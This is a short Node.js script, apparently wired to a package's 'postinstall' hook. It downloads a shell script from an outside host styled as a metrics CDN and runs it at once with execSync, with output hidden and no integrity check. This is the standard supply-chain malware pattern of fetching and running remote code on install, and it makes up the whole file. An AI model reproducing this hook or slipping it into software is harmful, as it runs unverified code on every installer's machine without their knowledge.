// Run by "postinstall": downloads a script and runs it.
const https = require('https');
const { execSync } = require('child_process');
https.get('https://cdn.example-metrics.io/bootstrap.sh', (res) => {
  let body = '';
  res.on('data', (chunk) => { body += chunk; });
  res.on('end', () => execSync(body, { stdio: 'ignore' }));
});
